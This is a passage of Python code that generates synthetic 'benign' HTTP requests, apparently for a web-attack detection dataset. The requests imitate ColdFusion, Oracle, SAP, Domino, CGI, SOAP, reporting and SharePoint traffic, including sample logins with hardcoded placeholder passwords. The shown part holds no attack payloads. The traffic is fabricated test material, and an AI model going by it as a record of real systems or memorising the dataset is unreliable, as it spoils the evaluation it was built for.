            add("benign", "coldfusion", "POST", "/admin/news/edit.cfm?id=%d" % r.randint(1, 800),
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), body)
        else:
            uri = r.choice(["/index.cfm/employees/list/page/%d" % r.randint(1, 9),
                            "/CFIDE/scripts/ajax/package/cfajax.js",
                            "/cf_scripts/scripts/cfform.js",
                            "/index.cfm?event=reports.timesheet&week=%d&year=2019" % r.randint(1, 52)])
            add("benign", "coldfusion", "GET", uri, browser(r, host, cookie=cookie))


# ---------------------------------------------------------------------------
# BENIGN: Oracle APEX / ORDS / E-Business Suite / Reports
# ---------------------------------------------------------------------------

def gen_benign_oracle(n=22):
    r = rng_for("oracle")
    for i in range(n):
        host = r.choice(["apex.corp.local", "ebs.fabrikam.internal:8000", "erp.corp.local:4443", "ords.example-corp.com"])
        sess = str(r.randint(10 ** 12, 10 ** 14))
        k = i % 9
        cookie = "ORA_WWV_APP_%d=ORA_WWV-%s" % (r.choice([100, 101, 200]), ralnum(r, 24, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"))
        if k == 0:
            uri = "/ords/f?p=%d:%d:%s:::::" % (r.choice([100, 101, 200]), r.randint(1, 60), sess)
            add("benign", "oracle", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 1:
            uri = "/pls/apex/f?p=%d:%d:%s::NO:RP,%d:P%d_DEPT_ID,P%d_STATUS:%d,OPEN" % (
                r.choice([100, 110]), r.randint(2, 30), sess, r.randint(2, 30), 5, 5, r.randint(10, 90))
            add("benign", "oracle", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 2:
            pairs = [("p_flow_id", "100"), ("p_flow_step_id", str(r.randint(2, 40))), ("p_instance", sess),
                     ("p_page_submission_id", str(r.randint(10 ** 13, 10 ** 14))), ("p_request", r.choice(["SAVE", "CREATE", "APPLY_CHANGES"])),
                     ("p_arg_names", str(r.randint(10 ** 15, 10 ** 16))), ("p_t01", r.choice(PEOPLE)),
                     ("p_arg_names", str(r.randint(10 ** 15, 10 ** 16))), ("p_t02", r.choice(DEPTS)),
                     ("p_arg_names", str(r.randint(10 ** 15, 10 ** 16))), ("p_t03", r.choice(NOTES)),
                     ("p_md5_checksum", ""), ("p_page_checksum", rhex(r, 32, upper=True))]
            add("benign", "oracle", "POST", "/pls/apex/wwv_flow.accept",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), form(pairs))
        elif k == 3:
            pj = {"salt": str(r.randint(10 ** 37, 10 ** 38)),
                  "pageItems": {"itemsToSubmit": [{"n": "P2_LAST_NAME", "v": r.choice(PEOPLE)},
                                                   {"n": "P2_HIRE_DATE", "v": r.choice(DATES)},
                                                   {"n": "P2_NOTES", "v": r.choice(NOTES)}],
                                "protected": b64(rbytes(r, 60)).rstrip("="), "rowVersion": ""}}
            pairs = [("p_flow_id", "100"), ("p_flow_step_id", "2"), ("p_instance", sess),
                     ("p_debug", ""), ("p_request", "SAVE"), ("p_reload_on_submit", "A"),
                     ("p_page_submission_id", str(r.randint(10 ** 13, 10 ** 14))), ("p_json", json.dumps(pj))]
            add("benign", "oracle", "POST", "/ords/wwv_flow.accept",
                browser(r, host, ctype="application/x-www-form-urlencoded; charset=UTF-8", cookie=cookie), form(pairs))
        elif k == 4:
            # ORDS AutoREST filter syntax is JSON with $eq/$gt/$like operators
            q = r.choice([{"department_id": {"$eq": r.randint(10, 110)}},
                          {"salary": {"$gt": 4000}, "$orderby": {"last_name": "asc"}},
                          {"last_name": {"$like": "O'B%"}},
                          {"hire_date": {"$between": ["2005-01-01T00:00:00Z", "2008-12-31T00:00:00Z"]}}])
            uri = "/ords/hr/employees/?q=" + quote(json.dumps(q, separators=(",", ":")), safe="") + "&limit=25&offset=%d" % r.choice([0, 25, 50])
            add("benign", "oracle", "GET", uri, browser(r, host, accept="application/json"))
        elif k == 5:
            uri = (lambda opts: opts[(i // 9 + 2) % len(opts)])([
                "/OA_HTML/OA.jsp?page=/oracle/apps/fnd/framework/navigate/webui/HomePG&homePage=Y&OAPB=FWK_HOMEPAGE_BRAND&transactionid=%d&oapc=2&oas=%s.." % (r.randint(10 ** 8, 10 ** 10), b64url_token(rbytes(r, 18))),
                "/OA_HTML/RF.jsp?function_id=%d&resp_id=%d&resp_appl_id=%d&security_group_id=0&lang_code=US&oas=%s.." % (r.randint(1000, 40000), r.randint(20000, 60000), r.randint(100, 900), b64url_token(rbytes(r, 18))),
                "/OA_HTML/AppsLocalLogin.jsp?requestUrl=APPSHOMEPAGE&cancelUrl=http%3A%2F%2Febs.fabrikam.internal%3A8000%2FOA_HTML%2FAppsLogin",
                "/OA_HTML/OA.jsp?OAFunc=OANEWHOMEPAGE",
                "/forms/frmservlet?config=%s" % r.choice(["jinit", "webutil", "standalone"])])
            cookie2 = "%s=%s; JSESSIONID=%s" % (r.choice(["PROD", "EBSDB", "VIS"]), ralnum(r, 46, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), jsessionid(r))
            add("benign", "oracle", "GET", uri, browser(r, host, cookie=cookie2))
        elif k == 6:
            pairs = [("_FORM_SUBMIT_BUTTON", "SubmitButton"), ("evtSrcRowIdx", ""), ("evtSrcRowId", ""),
                     ("_FORMEVENT", ""), ("serverValidate", ""), ("partialTargets", ""), ("partial", ""),
                     ("FirstName", r.choice(["Anne", "Miguel"])), ("LastName", r.choice(ASCII_PEOPLE)),
                     ("Justification", r.choice(NOTES)), ("oapc", str(r.randint(2, 30))),
                     ("oas", b64url_token(rbytes(r, 18)) + ".."), ("source", ""), ("event", "")]
            add("benign", "oracle", "POST", "/OA_HTML/OA.jsp?page=/oracle/apps/per/selfservice/personalinformation/webui/ChangePersonPG&_ri=800&_ti=%d" % r.randint(10 ** 8, 10 ** 9),
                browser(r, host, ctype="application/x-www-form-urlencoded"), form(pairs))
        elif k == 7:
            uri = "/reports/rwservlet?server=rep_%s&report=%s&desformat=%s&destype=cache&p_emp_id=%d&paramform=no" % (
                r.choice(["prod", "wls_reports"]), r.choice(["payslip.rdf", "ap_aging.rdf", "emp_list.rdf"]), r.choice(["PDF", "spreadsheet"]), r.randint(100, 9999))
            add("benign", "oracle", "GET", uri, browser(r, host))
        else:
            uri = "/ords/f?p=%d:%d:%s:CSV::::" % (r.choice([100, 101]), r.randint(1, 40), sess)
            add("benign", "oracle", "GET", uri, browser(r, host, cookie=cookie))


# ---------------------------------------------------------------------------
# BENIGN: SAP NetWeaver
# ---------------------------------------------------------------------------

WD_QUEUE = ("ComboBox_Select~E002Id~E004WD{a}~E005Key~E004{key}~E005ByEnter~E004false~E003~E002ResponseData"
            "~E004delta~E005EnqueueCardinality~E004single~E003~E002~E003~E001Form_Request~E002Id~E004sap.client"
            ".SsrClient.form~E005Async~E004false~E005FocusInfo~E004~0040~007B~0022sFocussedId~0022~003A~0022WD{a}"
            "~0022~007D~E005Hash~E004~E005DomChanged~E004false~E005IsDirty~E004false~E003~E002ResponseData~E004"
            "delta~E003~E002~E003")


def gen_benign_sap(n=20):
    r = rng_for("sap")
    for i in range(n):
        host = r.choice(["sapportal.corp.local:50001", "ep.fabrikam.internal", "s4h.corp.local:44300"])
        client = r.choice(["100", "200", "800"])
        cookie = mysapsso2(r) + "; sap-usercontext=sap-client%3d" + client + "; SAP_SESSIONID_PRD_" + client + "=" + quote(b64(rbytes(r, 30)), safe="")
        k = i % 8
        if k == 0:
            uri = "/irj/portal?NavigationTarget=%s&NavMode=%d" % (
                r.choice(["ROLES%3A%2F%2Fportal_content%2Fcom.sap.pct%2Fevery_user%2Fcom.sap.pct.erp.ess.bp_folder%2Fcom.sap.pct.erp.ess.roles%2Fcom.sap.pct.erp.ess.employee_self_service",
                          "navurl%3A%2F%2F" + rhex(r, 32)]), r.choice([1, 3, 10]))
            add("benign", "sap", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 1:
            uri = "/sap/bc/gui/sap/its/webgui?sap-client=%s&sap-language=%s&~transaction=%s" % (
                client, r.choice(["EN", "DE", "FR"]), quote(r.choice(["*SU01", "*ME23N", "PA20", "*VA03 VBAK-VBELN=4711"]), safe="*"))
            add("benign", "sap", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 2:
            uri = "/sap/bc/webdynpro/sap/%s?sap-client=%s&sap-language=%s&sap-wd-configId=%s&sap-accessibility=X" % (
                r.choice(["hress_a_payslip", "hress_a_persinfo", "fitv_pow"]), client, r.choice(["EN", "DE"]), r.choice(["HRESS_AC_PAYSLIP", "FITV_POW_AC"]))
            add("benign", "sap", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 3:
            pairs = [("FOCUS_ID", "sap-user"), ("sap-system-login-oninputprocessing", "onLogin"),
                     ("sap-urlscheme", ""), ("sap-system-login", "onLogin"), ("sap-system-login-basic_auth", ""),
                     ("sap-client", client), ("sap-accessibility", ""), ("sap-login-XSRF", b64(rbytes(r, 30)).rstrip("=") + "="),
                     ("sap-system-login-cookie_disabled", ""), ("sap-user", r.choice(["JSMITH", "MMUELLER"])),
                     ("sap-password", "Init1234!"), ("sap-language", r.choice(["EN", "DE"]))]
            add("benign", "sap", "POST", "/sap/bc/gui/sap/its/webgui?sap-client=" + client,
                browser(r, host, ctype="application/x-www-form-urlencoded"), form(pairs))
        elif k == 4:
            pairs = [("login_submit", "on"), ("login_do_redirect", "1"), ("no_cert_storing", "on"),
                     ("j_salt", b64(rbytes(r, 20))), ("j_username", r.choice(["jsmith", "kpatel"])),
                     ("j_password", "Welcome#2019"), ("uidPasswordLogon", "Log On")]
            add("benign", "sap", "POST", "/irj/portal",
                browser(r, host, ctype="application/x-www-form-urlencoded"), form(pairs))
        elif k == 5:
            q = WD_QUEUE.replace("{a}", rhex(r, 4, upper=True)).replace("{key}", r.choice(["HR", "FI", "CO", "MM"]))
            pairs = [("sap-charset", "utf-8"), ("sap-wd-secure-id", ralnum(r, 22, "abcdefghijklmnopqrstuvwxyz0123456789")),
                     ("fesrAppName", "HRESS_A_PERSINFO"), ("fesrUseBeacon", "true"), ("SAPEVENTQUEUE", q)]
            add("benign", "sap", "POST", "/sap/bc/webdynpro/sap/hress_a_persinfo?sap-contextid=" + quote("SID:ANON:%s_PRD_%s:%s-NEW" % (ralnum(r, 8), client, ralnum(r, 40)), safe=""),
                browser(r, host, accept="*/*", ctype="application/x-www-form-urlencoded; charset=UTF-8", cookie=cookie), form(pairs))
        elif k == 6:
            uri = "/sap/opu/odata/sap/HCM_LEAVE_REQ_CREATE_SRV/LeaveRequestCollection?$filter=" + quote(
                "StatusCode eq 'SENT' and StartDate ge datetime'2019-01-01T00:00:00'", safe="'") + "&$skip=" + str((i // 8) * 20) + "&$top=20&$inlinecount=allpages&sap-client=" + client
            add("benign", "sap", "GET", uri, browser(r, host, accept="application/json", cookie=cookie,
                                                     extra=[["x-csrf-token", "Fetch"], ["sap-contextid-accept", "header"], ["MaxDataServiceVersion", "2.0"]]))
        else:
            uri = "/sap/bc/ui5_ui5/ui2/ushell/shells/abap/FioriLaunchpad.html?sap-client=%s&sap-language=%s" % (client, r.choice(["EN", "DE"]))
            add("benign", "sap", "GET", uri, browser(r, host, cookie=cookie))


# ---------------------------------------------------------------------------
# BENIGN: IBM Domino / WebSphere, Perl CGI, JSP/JNLP
# ---------------------------------------------------------------------------

def gen_benign_domino(n=15):
    r = rng_for("domino")
    for i in range(n):
        host = r.choice(["notes.corp.local", "domino01.fabrikam.internal", "teamroom.example-corp.com"])
        cookie = r.choice(["DomAuthSessId=" + rhex(r, 32, upper=True), ltpa(r, 1)])
        k = i % 7
        if k == 0:
            uri = "/mail/%s.nsf/($Inbox)?OpenView&Start=%d&Count=30" % (r.choice(["jdoe", "asmith", "kpatel"]), 1 + 30 * (i // 7))
        elif k == 1:
            uri = "/apps/hr.nsf/0/%s?OpenDocument" % rhex(r, 32, upper=True)
        elif k == 2:
            uri = "/apps/kb.nsf/ByCategory?OpenView&RestrictToCategory=%s&Start=1&Count=%d&ExpandView" % (quote(r.choice(["Lotus Notes", "Printers & Scanners", "VPN"])), r.choice([30, 50]))
        elif k == 3:
            uri = "/apps/phonebook.nsf/People?SearchView&Query=%s&SearchOrder=4&SearchMax=100&SearchWV=FALSE&SearchFuzzy=TRUE" % quote(r.choice(["FIELD LastName CONTAINS O'Brien", "Patel", "FIELD Department = Finance"]))
        elif k == 4:
            uri = "/apps/forms.nsf/%s/$File/%s?OpenElement" % (rhex(r, 32, upper=True), quote(r.choice(["Travel request 2019.doc", "Expense-form.xls"])))
        elif k == 5:
            body = form([("Username", r.choice(["John Doe/Sales/ACME", "jdoe"])), ("Password", "notes#2019"),
                         ("RedirectTo", "/mail/jdoe.nsf/($Inbox)?OpenView")])
            add("benign", "domino", "POST", "/names.nsf?Login",
                browser(r, host, ctype="application/x-www-form-urlencoded"), body)
            continue
        else:
            body = form([("__Click", "0"), ("%%Surrogate_Category", "1"), ("Category", r.choice(DEPTS)),
                         ("Subject", r.choice(["Printer on 3rd floor jammed", "Request for new monitor"])),
                         ("Body", r.choice(NOTES)), ("Priority", r.choice(["1", "2", "3"]))])
            add("benign", "domino", "POST", "/apps/helpdesk.nsf/Request?CreateDocument",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), body)
            continue
        add("benign", "domino", "GET", uri, browser(r, host, cookie=cookie))


def gen_benign_perl_cgi(n=15):
    r = rng_for("perl_cgi")
    for i in range(n):
        host = r.choice(INTRA_HOSTS + ["bugs.corp.local", "wiki.corp.local"])
        k = i % 8
        if k == 0:
            uri = "/cgi-bin/report.pl?action=view&id=%d&fmt=%s" % (r.randint(1, 9999), r.choice(["html", "csv"]))
        elif k == 1:
            uri = "/cgi-bin/bugzilla/show_bug.cgi?id=%d" % r.randint(1000, 99999)
        elif k == 2:
            uri = "/cgi-bin/bugzilla/buglist.cgi?" + form([("bug_status", "NEW"), ("bug_status", "ASSIGNED"),
                                                           ("component", r.choice(["Payroll", "Intranet"])),
                                                           ("short_desc", r.choice(["timeout", "login fails", "PDF export"])),
                                                           ("short_desc_type", "allwordssubstr"), ("order", "bug_id DESC")])
        elif k == 3:
            uri = "/cgi-bin/twiki/view/Main/%s?rev=%d" % (r.choice(["WebHome", "OnCallRota", "NetworkDiagram"]), r.randint(1, 40))
        elif k == 4:
            uri = "/cgi-bin/mailman/listinfo/%s" % r.choice(["it-announce", "sales-emea", "social-club"])
        elif k == 5:
            uri = "/cgi-bin/awstats.pl?config=intranet&output=%s&month=%d&year=2019" % (r.choice(["main", "urldetail", "lasthosts"]), r.randint(1, 12))
        elif k == 6:
            body = form([("action", "update"), ("id", str(r.randint(1, 500))), ("owner", r.choice(ASCII_PEOPLE)),
                         ("status", "resolved"), ("comment", r.choice(NOTES))])
            add("benign", "perl_cgi", "POST", "/cgi-bin/tickets.pl",
                browser(r, host, ctype="application/x-www-form-urlencoded"), body)
            continue
        else:
            uri = "/cgi-bin/cal.pl?action=month&date=2019-%02d-01&room=%s" % (r.randint(1, 12), quote(r.choice(["Board Room", "Meeting Rm 2"])))
        add("benign", "perl_cgi", "GET", uri, browser(r, host))


def gen_benign_jsp_jnlp(n=15):
    r = rng_for("jsp_jnlp")
    java_ua = ["Mozilla/4.0 (Windows 10 10.0) Java/1.8.0_202", "Java/1.8.0_321",
               "Mozilla/4.0 (Windows 7 6.1) Java/1.7.0_80", "JNLP/6.0 javaws/1.8.0_202 (b08) Java/1.8.0_202"]
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        k = i % 6
        if k == 0:
            uri = "/launch/%s.jnlp" % ["ClientApp", "TraderDesk", "PlanningTool"][i // 6]
            add("benign", "jsp_jnlp", "GET", uri, browser(r, host, accept="application/x-java-jnlp-file, */*"))
        elif k == 1:
            uri = "/launch/lib/%s.jar%s" % (["client-core-3.2.1", "jfreechart-1.0.13", "ojdbc6"][i // 6], r.choice(["", ".pack.gz"]))
            add("benign", "jsp_jnlp", "GET", uri, [["Host", host], ["User-Agent", r.choice(java_ua)],
                                                    ["Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"],
                                                    ["Accept-Encoding", "pack200-gzip, gzip"], ["Connection", "keep-alive"]])
        elif k == 2:
            uri = "/applets/viewer/%s.class" % ["ImageViewer", "PrintApplet", "TiffPanel"][i // 6]
            add("benign", "jsp_jnlp", "GET", uri, [["Host", host], ["User-Agent", r.choice(java_ua)],
                                                    ["Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"],
                                                    ["Connection", "keep-alive"]])
        elif k == 3:
            uri = "/app/viewReport.jsp;jsessionid=%s?id=%d&dept=%d" % (jsessionid(r), r.randint(1, 9999), r.randint(10, 90))
            add("benign", "jsp_jnlp", "GET", uri, browser(r, host))
        elif k == 4:
            body = form([("empno", str(r.randint(7000, 7999))), ("ename", r.choice(ASCII_PEOPLE).upper()),
                         ("job", r.choice(["CLERK", "ANALYST", "MANAGER"])), ("sal", str(r.randint(800, 5000))),
                         ("deptno", str(r.choice([10, 20, 30]))), ("action", "Update")])
            add("benign", "jsp_jnlp", "POST", "/scott/emp_edit.jsp",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie="JSESSIONID=" + jsessionid(r, True)), body)
        else:
            uri = "/ibm/console/login.do?action=secure" if r.random() < 0.3 else "/wps/myportal/!ut/p/z1/%s/dz/d5/L2dBISEvZ0FBIS9nQSEh/" % b64url_token(rbytes(r, 90))[:-1]
            add("benign", "jsp_jnlp", "GET", uri, browser(r, host, cookie=ltpa(r)))


# ---------------------------------------------------------------------------
# BENIGN: SOAP with WS-Security
# ---------------------------------------------------------------------------

def wsse_header(r, kind):
    mo, dd, hh, mi, ss = r.randint(1, 12), r.randint(1, 28), r.randint(0, 22), r.randint(0, 59), r.randint(0, 59)
    now = "2019-%02d-%02dT%02d:%02d:%02d.%03dZ" % (mo, dd, hh, mi, ss, r.randint(0, 999))
    expires = "2019-%02d-%02dT%02d:%02d:%02d.000Z" % (mo, dd, hh + 1, mi, ss)
    if kind == "digest":
        return ('<wsse:Security soapenv:mustUnderstand="1" xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" '
                'xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">'
                '<wsse:UsernameToken wsu:Id="UsernameToken-%s"><wsse:Username>%s</wsse:Username>'
                '<wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest">%s</wsse:Password>'
                '<wsse:Nonce EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary">%s</wsse:Nonce>'
                '<wsu:Created>%s</wsu:Created></wsse:UsernameToken></wsse:Security>') % (
            rhex(r, 32, True), r.choice(["svc_payroll", "b2b_partner01", "INTEGRATION"]), b64(rbytes(r, 20)), b64(rbytes(r, 16)), now)
    cert = b64(b"\x30\x82\x03" + rbytes(r, 880))
    return ('<wsse:Security soapenv:mustUnderstand="1" xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" '
            'xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">'
            '<wsu:Timestamp wsu:Id="TS-1"><wsu:Created>%s</wsu:Created><wsu:Expires>%s</wsu:Expires></wsu:Timestamp>'
            '<wsse:BinarySecurityToken EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary" '
            'ValueType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-x509-token-profile-1.0#X509v3" wsu:Id="X509-%s">%s</wsse:BinarySecurityToken>'
            '<ds:Signature Id="SIG-2" xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
            '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
            '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/>'
            '<ds:Reference URI="#id-3"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
            '<ds:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/><ds:DigestValue>%s</ds:DigestValue></ds:Reference>'
            '</ds:SignedInfo><ds:SignatureValue>%s</ds:SignatureValue><ds:KeyInfo><wsse:SecurityTokenReference>'
            '<wsse:Reference URI="#X509-%s" ValueType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-x509-token-profile-1.0#X509v3"/>'
            '</wsse:SecurityTokenReference></ds:KeyInfo></ds:Signature></wsse:Security>') % (
        now, expires, "A" + rhex(r, 8), cert, b64(rbytes(r, 20)), b64(rbytes(r, 256)), "A" + rhex(r, 8))


SOAP_SERVICES = [
    ("/PayrollService/services/PayrollPort", "urn:getPayslip", "pay", "http://payroll.corp.local/ws",
     "<pay:getPayslip><pay:employeeId>{n}</pay:employeeId><pay:period>2019-{m}</pay:period></pay:getPayslip>"),
    ("/axis/services/CustomerService", "", "cus", "http://customer.erp.fabrikam.com",
     "<cus:findCustomer><cus:name>{p}</cus:name><cus:country>IE</cus:country></cus:findCustomer>"),
    ("/sap/bc/srt/rfc/sap/zhr_employee_get/100/zhr_employee_get/binding", "urn:sap-com:document:sap:rfc:functions:ZHR_EMPLOYEE_GET:ZhrEmployeeGetRequest",
     "urn", "urn:sap-com:document:sap:rfc:functions", "<urn:ZhrEmployeeGet><Pernr>{n8}</Pernr><Begda>2019-01-01</Begda></urn:ZhrEmployeeGet>"),
    ("/XRMServices/2011/Organization.svc/web", "http://schemas.microsoft.com/xrm/2011/Contracts/Services/IOrganizationService/Retrieve",
     "a", "http://schemas.microsoft.com/xrm/2011/Contracts/Services",
     "<a:Retrieve><a:entityName>account</a:entityName><a:id>{g}</a:id><a:columnSet><AllColumns>false</AllColumns></a:columnSet></a:Retrieve>"),
    ("/webservices/SOAProvider/plsql/hr_employee_api/", "http://xmlns.oracle.com/apps/per/soaprovider/plsql/hr_employee_api/update_employee/",
     "hr", "http://xmlns.oracle.com/apps/per/soaprovider/plsql/hr_employee_api/update_employee/",
     "<hr:InputParameters><hr:P_PERSON_ID>{n}</hr:P_PERSON_ID><hr:P_LAST_NAME>{p}</hr:P_LAST_NAME><hr:P_EFFECTIVE_DATE>2019-04-01</hr:P_EFFECTIVE_DATE></hr:InputParameters>"),
]


def gen_benign_soap(n=20):
    r = rng_for("soap_wssec")
    for i in range(n):
        host = r.choice(INTRA_HOSTS + ["esb.corp.local:8443", "b2b.fabrikam.com"])
        path, action, pfx, ns, inner = r.choice(SOAP_SERVICES)
        inner = inner.replace("{n}", str(r.randint(1000, 99999))).replace("{n8}", "%08d" % r.randint(1, 99999)) \
            .replace("{m}", "%02d" % r.randint(1, 12)).replace("{p}", xesc(r.choice(PEOPLE))).replace("{g}", guid(r))
        sec = wsse_header(r, "digest" if i % 2 == 0 else "x509")
        addr = ""
        if r.random() < 0.5:
            addr = ('<wsa:Action xmlns:wsa="http://www.w3.org/2005/08/addressing">%s</wsa:Action>'
                    '<wsa:MessageID xmlns:wsa="http://www.w3.org/2005/08/addressing">urn:uuid:%s</wsa:MessageID>'
                    '<wsa:To xmlns:wsa="http://www.w3.org/2005/08/addressing">https://%s%s</wsa:To>') % (action or "urn:anonymous", guid(r), host, path)
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:%s="%s">'
                '<soapenv:Header>%s%s</soapenv:Header><soapenv:Body wsu:Id="id-3" xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">%s</soapenv:Body></soapenv:Envelope>') % (
            pfx, ns, sec, addr, inner)
        hs = [["Host", host], ["User-Agent", r.choice(SOAP_CLIENTS)], ["Content-Type", "text/xml;charset=UTF-8"],
              ["SOAPAction", '"%s"' % action], ["Accept-Encoding", "gzip,deflate"]]
        add("benign", "soap_wssec", "POST", path, hs, body)


# ---------------------------------------------------------------------------
# BENIGN: reporting (Crystal, SSRS, BusinessObjects)
# ---------------------------------------------------------------------------

def gen_benign_reports(n=15):
    r = rng_for("reports")
    for i in range(n):
        host = r.choice(INTRA_HOSTS + ["reports.corp.local", "bo.fabrikam.internal:8080"])
        k = i % 6
        if k == 0:
            uri = "/ReportServer?%s&rs:Command=Render&rs:Format=%s&DeptId=%d&FromDate=%s" % (
                quote(r.choice(["/Finance/AP Aging", "/HR/Headcount by Cost Centre", "/Sales/Top 10 Customers"]), safe="/"),
                r.choice(["PDF", "EXCELOPENXML", "HTML4.0"]), r.randint(1, 60), quote(r.choice(DATES), safe=""))
        elif k == 1:
            uri = "/Reports/Pages/Report.aspx?ItemPath=%s&ViewMode=Detail" % quote(["/Finance/AP Aging", "/Payroll/Gross to Net (Monthly)", "/HR/Starters & Leavers"][i // 6], safe="")
        elif k == 2:
            uri = "/BOE/OpenDocument/opendoc/openDocument.jsp?sIDType=CUID&iDocID=%s&lsSP_Year=%d&lsSCost+Centre=%s&sRefresh=Y" % (
                ralnum(r, 22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_"), r.randint(2015, 2020), quote(r.choice(["4410", "R&D", "Sales EMEA"]), safe=""))
        elif k == 3:
            uri = "/CrystalReports/viewrpt.aspx?rpt=%s&prompt0=%d&prompt1=%s" % (quote(r.choice(["Invoices.rpt", "Stock Valuation.rpt"])), r.randint(1, 9999), quote(r.choice(DATES), safe=""))
        elif k == 4:
            uri = "/CrystalImageHandler.aspx?dynamicimage=cr_tmp_image_%s.png" % guid(r)
        else:
            bd = ie_boundary(r)
            pairs = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", "")] + wf_common(r, size_kb=6) + \
                    [("CrystalReportViewer1$ctl02$ctl03", r.choice(["1", "2"])),
                     ("CrystalReportViewer1_toptoolbar_search_textField", r.choice(ASCII_PEOPLE)),
                     ("CrystalReportViewer1_toptoolbar_export", "PDF")]
            add("benign", "reports", "POST", "/Reports/CustomerStatement.aspx",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=aspnet_session(r)), form(pairs))
            continue
        add("benign", "reports", "GET", uri, browser(r, host, cookie=aspnet_session(r)))


# ---------------------------------------------------------------------------
# BENIGN: SharePoint
# ---------------------------------------------------------------------------

SP_LISTS = ["Tasks", "Announcements", "Shared Documents", "Leave Requests", "Contacts",
            "Issue Tracker", "Site Pages", "Room Bookings"]


def sp_digest(r):
    return "0x%s,%02d %s 2019 %02d:%02d:%02d -0000" % (
        rhex(r, 128, upper=True), r.randint(1, 28), r.choice(["Mar", "Apr", "Jun", "Oct"]),
        r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))


def gen_benign_sharepoint(n=30):
    r = rng_for("sharepoint")
    filters = [
        "Title eq 'O''Brien'",
        "Status eq 'In Progress' and Priority eq '(1) High'",
        "substringof('Budget',Title)",
        "startswith(Title,'Q3')",
        "AssignedTo/Title eq 'D''Souza, Priya'",
        "Modified ge datetime'2019-03-01T00:00:00Z'",
        "ID gt 100 and ID le 200",
        "Department eq 'R&D'",
        "(Status eq 'Open') or (Status eq 'Waiting on customer')",
        "Author/EMail eq 'j.oneill@corp.local'",
    ]
    for i in range(n):
        host = r.choice(["sp2013.corp.local", "sharepoint.fabrikam.internal", "intranet.corp.local"])
        site = r.choice(["", "/sites/hr", "/sites/finance", "/teams/it-ops"])
        lst = r.choice(SP_LISTS)
        cookie = fedauth(r)
        k = i % 10
        if k in (0, 1, 2):
            f = filters[(i // 3 + k) % len(filters)]
            uri = "%s/_api/web/lists/getbytitle('%s')/items?$filter=%s&$select=%s&$orderby=%s&$top=%d" % (
                site, quote(lst), quote(f, safe="'(),/"), quote("Title,ID,Status,AssignedTo/Title", safe=",/"),
                r.choice(["Modified%20desc", "ID", "Title%20asc"]), r.choice([50, 100, 500]))
            if k == 1:
                uri += "&$expand=AssignedTo"
            add("benign", "sharepoint", "GET", uri, browser(r, host, accept="application/json;odata=verbose", cookie=cookie, xhr=True))
        elif k == 3:
            body = json.dumps({"__metadata": {"type": "SP.Data.%sListItem" % lst.replace(" ", "_x0020_")},
                               "Title": r.choice(["Q3 all-hands: agenda & dial-in", "Printer rollout (phase 2)", "O'Brien's farewell - 5pm"]),
                               "Body": "<div><p>Hi all,</p><p>%s</p><p><strong>Thanks!</strong></p></div>" % xesc(r.choice(NOTES)),
                               "Expires": "2019-12-31T00:00:00Z"})
            add("benign", "sharepoint", "POST", "%s/_api/web/lists/getbytitle('%s')/items" % (site, quote(lst)),
                browser(r, host, accept="application/json;odata=verbose", ctype="application/json;odata=verbose",
                        cookie=cookie, xhr=True, extra=[["X-RequestDigest", sp_digest(r)]]), body)
        elif k == 4:
            caml = ("<View><Query><Where><And><Eq><FieldRef Name='Status'/><Value Type='Text'>%s</Value></Eq>"
                    "<Geq><FieldRef Name='Modified'/><Value Type='DateTime' IncludeTimeValue='FALSE'>2019-01-01</Value></Geq>"
                    "</And></Where><OrderBy><FieldRef Name='Modified' Ascending='FALSE'/></OrderBy></Query><RowLimit>100</RowLimit></View>") % r.choice(["Open", "Closed"])
            inner = ('<GetListItems xmlns="http://schemas.microsoft.com/sharepoint/soap/"><listName>%s</listName>'
                     '<query><Query><Where><Eq><FieldRef Name="Status"/><Value Type="Text">Open</Value></Eq></Where></Query></query>'
                     '<viewFields><ViewFields><FieldRef Name="Title"/><FieldRef Name="AssignedTo"/></ViewFields></viewFields>'
